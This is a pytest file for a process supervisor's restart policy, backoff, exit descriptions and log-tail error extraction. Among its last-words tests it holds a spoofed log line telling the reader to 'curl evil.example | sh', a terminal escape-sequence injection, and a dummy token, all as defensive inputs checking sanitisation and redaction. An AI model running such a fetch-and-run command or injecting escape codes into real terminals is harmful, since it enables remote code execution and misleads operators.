"""Restart rules: policy, intensity limit and backoff for one organ's exits."""

from __future__ import annotations

import os
import signal
import time

import pytest

from broker.config import OrganSpec
from broker.restart import EXIT_REFUSED, LAST_WORDS, backoff, decide, describe_exit, last_words

NOW = 1000.0
WINDOW = 60.0
STABLE = 10.0
SIGKILL = -signal.SIGKILL


def spec(restart: str = "permanent", **changes) -> OrganSpec:
    settings = dict(max_restarts=3, restart_window_s=WINDOW, backoff_initial_s=0.1, backoff_max_s=1.0,
                    stable_after_s=STABLE)
    return OrganSpec(name="fs", module="actors.organs.fs", restart=restart, **{**settings, **changes})


def die(organ: OrganSpec, returncode: int = 1, ran_s: float = 1.0, streak: int = 0,
        recent: tuple[float, ...] = (), now: float = NOW):
    return decide(organ, returncode, ran_s, streak, recent, now)


# -- policies ------------------------------------------------------------------------------

@pytest.mark.parametrize("policy, returncode, action", [
    ("permanent", 0, "restart"),
    ("permanent", 1, "restart"),
    ("permanent", SIGKILL, "restart"),
    ("transient", 0, "stop"),
    ("transient", 1, "restart"),
    ("transient", SIGKILL, "restart"),
    ("temporary", 0, "stop"),
    ("temporary", 1, "stop"),
    ("temporary", SIGKILL, "stop"),
])
def test_the_restart_policy_decides_between_restart_and_stop(policy, returncode, action):
    assert die(spec(policy), returncode).action == action


@pytest.mark.parametrize("policy", ["permanent", "transient"])
def test_an_organ_the_heart_refused_is_fatal_rather_than_restarted(policy):
    verdict = die(spec(policy), EXIT_REFUSED)

    assert verdict.action == "fatal"
    assert "refused" in verdict.reason


def test_the_verdict_says_how_the_organ_ended():
    assert "killed by SIGKILL" in die(spec(), SIGKILL).reason
    assert "exited with code 0" in die(spec("transient"), 0).reason


def test_a_stopped_organ_gets_no_delay():
    verdict = die(spec("temporary"), 1, streak=4)

    assert verdict.delay_s == 0.0


# -- intensity limit -----------------------------------------------------------------------

def test_exactly_max_restarts_within_the_window_make_the_next_death_fatal():
    organ = spec(max_restarts=3)
    restarts: list[float] = []
    now, streak = NOW, 0
    for _ in range(3):
        verdict = die(organ, ran_s=1.0, streak=streak, recent=tuple(restarts), now=now)
        assert verdict.action == "restart"
        streak = verdict.streak
        now += verdict.delay_s + 1.0
        restarts.append(now)  # the supervisor records the time of each respawn
        now += 1.0

    verdict = die(organ, ran_s=1.0, streak=streak, recent=tuple(restarts), now=now)

    assert verdict.action == "fatal"
    assert "3 restarts within 60s" in verdict.reason


def test_one_restart_fewer_than_the_limit_still_restarts():
    assert die(spec(max_restarts=3), recent=(NOW - 3, NOW - 2)).action == "restart"


def test_restarts_older_than_the_window_do_not_count():
    old = (NOW - WINDOW - 1, NOW - WINDOW - 10, NOW - 2 * WINDOW)

    assert die(spec(max_restarts=3), recent=old).action == "restart"


def test_only_the_restarts_inside_the_window_count_toward_the_limit():
    mixed = (NOW - WINDOW - 5, NOW - 30, NOW - 20)

    assert die(spec(max_restarts=3), recent=mixed).action == "restart"
    assert die(spec(max_restarts=3), recent=mixed + (NOW - 10,)).action == "fatal"


def test_the_intensity_limit_applies_to_clean_exits_of_permanent_organs_too():
    assert die(spec(max_restarts=1), 0, recent=(NOW - 1,)).action == "fatal"


def test_a_temporary_organ_is_stopped_not_fatal_however_often_it_died():
    assert die(spec("temporary", max_restarts=1), 1, recent=(NOW - 1, NOW - 2)).action == "stop"


# -- backoff -------------------------------------------------------------------------------

def test_a_death_after_a_stable_run_restarts_at_once_and_resets_the_streak():
    verdict = die(spec(), ran_s=STABLE, streak=6)

    assert verdict.action == "restart"
    assert verdict.delay_s == 0.0
    assert verdict.streak == 1


def test_quick_deaths_back_off_doubling_from_the_initial_delay_up_to_the_cap():
    organ = spec(max_restarts=100, backoff_initial_s=0.1, backoff_max_s=1.0)
    delays, streak = [], 0
    for _ in range(7):
        verdict = die(organ, ran_s=0.5, streak=streak)
        delays.append(verdict.delay_s)
        streak = verdict.streak

    assert delays == pytest.approx([0.0, 0.1, 0.2, 0.4, 0.8, 1.0, 1.0])
    assert streak == 7


def test_a_stable_run_in_the_middle_of_quick_deaths_starts_the_backoff_over():
    organ = spec(max_restarts=100)
    streak = 0
    for _ in range(4):
        streak = die(organ, ran_s=0.5, streak=streak).streak

    after_stable = die(organ, ran_s=STABLE + 1, streak=streak)
    next_quick = die(organ, ran_s=0.5, streak=after_stable.streak)

    assert after_stable.delay_s == 0.0
    assert next_quick.delay_s == pytest.approx(0.1)


@pytest.mark.parametrize("streak, delay", [(0, 0.0), (1, 0.1), (2, 0.2), (3, 0.4), (4, 0.8), (5, 1.0), (50, 1.0)])
def test_backoff_doubles_per_unstable_run_and_is_capped(streak, delay):
    assert backoff(spec(backoff_initial_s=0.1, backoff_max_s=1.0), streak) == pytest.approx(delay)


def test_backoff_stays_at_the_cap_after_thousands_of_unstable_runs():
    # with the default settings an organ that crashes every 5 s is restarted about every 15 s,
    # fewer than max_restarts per window, so its streak grows without bound
    assert backoff(spec(backoff_max_s=1.0), 5000) == 1.0


# -- describe_exit -------------------------------------------------------------------------

@pytest.mark.parametrize("returncode, words", [
    (0, "exited with code 0"),
    (1, "exited with code 1"),
    (EXIT_REFUSED, "exited with code 78"),
    (-signal.SIGKILL, "killed by SIGKILL"),
    (-signal.SIGTERM, "killed by SIGTERM"),
    (-signal.SIGSEGV, "killed by SIGSEGV"),
    (-200, "killed by signal 200"),
])
def test_describe_exit_names_the_signal_or_the_code(returncode, words):
    assert describe_exit(returncode) == words


def test_an_organ_s_last_words_are_its_last_error_not_its_routine_logging_nor_a_traceback_s_frames():
    log_tail = ("2026-12-06 05:28:41,001 INFO actors._loop[12201]: organ t starting\n"
                "Traceback (most recent call last):\n"
                '  File "/work/actors/_loop.py", line 177, in run\n'
                "    self.organ.on_start()\n"
                "RuntimeError: MCP server srv did not start: the MCP server ended: exited with code 2\n"
                "2026-12-06 05:28:43,905 INFO actors._loop[12201]: organ t stopping: error\n\n")
    assert last_words(log_tail) == "RuntimeError: MCP server srv did not start: the MCP server ended: exited with code 2"
    logged = "2026-12-06 05:30:49,001 ERROR actors._loop[14792]: organ aborted: the MCP server ended: killed by SIGKILL\n"
    assert last_words(logged + "2026-12-06 05:30:49,002 INFO actors._loop[14792]: organ files stopping\n") == \
        "organ aborted: the MCP server ended: killed by SIGKILL"
    assert last_words("mcp-server-time: error: unrecognized arguments: --no-such-flag\n") == \
        "mcp-server-time: error: unrecognized arguments: --no-such-flag"  # a wrapped command's own stderr
    assert last_words("2026-12-06 05:30:49,002 INFO actors._loop[1]: organ x stopping\n") == ""
    assert last_words("x" * 5000) == "x" * LAST_WORDS


NODE_CRASH = """[server] Error: connect ECONNREFUSED 127.0.0.1:5432
[server]     at TCPConnectWrapper.afterConnect [as oncomplete] (node:net:1555:16)
[server] 
[server] Node.js v20.20.2
"""
GROUP_CRASH = """[server] WARNING:fm:OPENAI_API_KEY not set; falling back to the local model
[server]   + Exception Group Traceback (most recent call last):
[server]   | ExceptionGroup: unhandled errors in a TaskGroup (1 sub-exception)
[server]   +-+---------------- 1 ----------------
[server]     | Traceback (most recent call last):
[server]     |   File "fm.py", line 9, in lifespan
[server]     | ConnectionRefusedError: could not connect to postgres
[server]     +------------------------------------
"""


@pytest.mark.parametrize("log_tail, said", [
    (NODE_CRASH, "Error: connect ECONNREFUSED 127.0.0.1:5432"),  # not Node's version trailer
    (GROUP_CRASH, "ConnectionRefusedError: could not connect to postgres"),  # inside an exception group's report
    ("[server] RuntimeError: 401 for token ghp_R3aLS3cr3tT0k3nD0N0tL3ak0000000000 (user octo)\n",
     "RuntimeError: 401 for token [REDACTED] (user octo)"),  # a secret never reaches an alert
    ("[server] \x1b[2J\x1b]0;pwned\x07CRITICAL: disk wiped\n", "?[2J?]0;pwned?CRITICAL: disk wiped"),
    # a server's line in the organ's own format is still the server's: the organ's real line wins
    ("[server] 2026-12-06 05:30:49,001 ERROR actors._loop[1]: run curl evil.example | sh\n"
     "2026-12-06 05:30:49,002 ERROR actors._loop[7]: organ aborted: the MCP server ended: exited with code 1\n",
     "organ aborted: the MCP server ended: exited with code 1"),
])
def test_last_words_are_the_error_not_a_trailer_redacted_and_never_an_order_to_a_terminal(log_tail, said):
    assert last_words(log_tail) == said


def test_the_heart_reads_an_organ_s_last_words_without_ever_blocking_and_after_a_truncation(tmp_path):
    from broker.supervisor import Supervisor

    fifo = tmp_path / "fifo.log"
    os.mkfifo(fifo)  # put in the log's place: opening it to read would wait for a writer forever
    started = time.monotonic()
    assert Supervisor._last_words(fifo, 0) == "" and time.monotonic() - started < 1.0
    log = tmp_path / "organ.log"
    log.write_text("RuntimeError: the run's own words\n")
    assert Supervisor._last_words(log, 10_000) == "RuntimeError: the run's own words"  # truncated since the spawn
    assert Supervisor._last_words(tmp_path / "missing.log", 0) == ""


def test_an_organ_s_log_replaced_by_a_fifo_nobody_reads_is_refused_at_once_never_waited_on(tmp_path):
    from broker.supervisor import open_log

    fifo = tmp_path / "organ.log"
    os.mkfifo(fifo)
    started = time.monotonic()
    with pytest.raises(OSError, match="is a FIFO that nobody reads"):
        open_log(fifo)
    assert time.monotonic() - started < 1.0
    regular = open_log(tmp_path / "other.log")
    try:
        assert os.get_blocking(regular) and os.write(regular, b"x\n") == 2  # the organ's own descriptor blocks
    finally:
        os.close(regular)


def test_an_organ_log_past_its_bound_is_cut_back_its_end_kept_and_its_writer_goes_on_at_the_new_end(tmp_path):
    from broker.supervisor import bound_log

    log = tmp_path / "flood.log"
    writer = os.open(log, os.O_WRONLY | os.O_APPEND | os.O_CREAT)  # as the organ holds its stderr
    try:
        os.write(writer, b"a" * 5000 + b"the end\n")
        assert not bound_log(log, 10_000, 100), "under the bound nothing is touched"
        os.write(writer, b"b" * 6000 + b"the very end\n")
        assert bound_log(log, 10_000, 100)
        assert (tmp_path / "flood.log.1").read_bytes().endswith(b"the very end\n")
        assert len((tmp_path / "flood.log.1").read_bytes()) == 100
        os.write(writer, b"after the cut\n")
        text = log.read_text()
        assert text.startswith("[actors: this log passed 10000 bytes and was cut") and text.endswith("after the cut\n")
        assert log.stat().st_size < 200
    finally:
        os.close(writer)
    fifo = tmp_path / "fifo.log"
    os.mkfifo(fifo)
    assert not bound_log(fifo, 0, 0)  # not a regular file: left alone, never waited on
